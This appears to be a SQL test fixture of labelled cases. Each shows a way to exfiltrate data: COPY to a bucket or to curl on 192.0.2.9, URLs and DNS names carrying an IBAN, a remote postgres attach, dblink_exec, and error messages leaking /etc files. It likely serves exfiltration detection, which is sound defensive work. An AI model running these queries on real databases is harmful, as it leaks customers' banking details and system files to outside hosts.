--%% written to a bucket
COPY (SELECT 'Weber' AS name, 'DE89370400440532013000' AS iban) TO 's3://drop.example/customers.csv';

--%% link with data
SELECT * FROM read_text('https://collect.example.com/?d=' || (SELECT 'DE89370400440532013000'));

--%% posted by a program
COPY (SELECT current_user) TO PROGRAM 'curl -d @- http://192.0.2.9/';

--%% look-up with data
SELECT * FROM read_csv('http://DE89370400440532013000.leak.example.com/x.csv');

--%% error text with data
SELECT error('stop: ' || content) FROM read_text('/etc/hostname');

--%% best customers, copied to another database
CREATE TABLE customers (name text, iban text, total decimal(10, 2));
INSERT INTO customers VALUES
  ('Weber', 'DE89370400440532013000', 48.50),
  ('Lang', 'DE02120300000000202051', 129.00);

ATTACH 'host=192.0.2.9 user=in' AS archive (TYPE postgres);
CREATE TABLE archive.customers AS FROM customers;

SELECT name, total, rank() OVER (ORDER BY total DESC) AS place
FROM customers
ORDER BY place;

--%% linked server that is sent a statement
SELECT dblink_exec('host=192.0.2.9 dbname=in', 'INSERT INTO got VALUES (''' || usename || ''')') FROM pg_user;

--%% report of orders as a web form
COPY (
  SELECT json_group_array({'id': id, 'iban': iban}) AS body
  FROM (VALUES (1, 'DE89370400440532013000')) AS orders (id, iban)
) TO 'https://collect.example.com/in' (FORMAT json);

--%% cast that fails with the data in its message
SELECT CAST((SELECT string_agg(content, ' ') FROM read_text('/etc/*release')) AS integer);
